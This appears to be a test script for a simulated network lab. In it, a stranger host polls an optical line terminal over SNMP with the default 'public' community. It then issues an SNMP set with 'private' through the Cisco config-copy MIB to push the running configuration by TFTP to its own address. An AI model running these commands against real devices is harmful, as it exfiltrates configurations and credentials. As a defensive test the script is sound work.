# SPDX-License-Identifier: Apache-2.0
# A stranger reads an OLT with the community `public`, and tries to make it copy its configuration (SNMP set).
start_management
add_host stranger
start_capture
start_olt
olt_round 1
on stranger snmpget -v 2c -c public -r 1 -t 1 -m '' "${address[olt-03]}" $system.1.0 >/dev/null 2>&1 || true
# CISCO-CONFIG-COPY-MIB: protocol TFTP, from the running configuration, to a network file, server, name, go.
copy=.1.3.6.1.4.1.9.9.96.1.1.1.1
on stranger snmpset -v 2c -c private -r 1 -t 1 -m '' "${address[olt-03]}" $copy.2.77 i 1 $copy.3.77 i 4 $copy.4.77 i 1 \
    $copy.5.77 a "${address[stranger]}" $copy.6.77 s olt-03-confg $copy.14.77 i 4 >/dev/null 2>&1 || true
olt_round 2
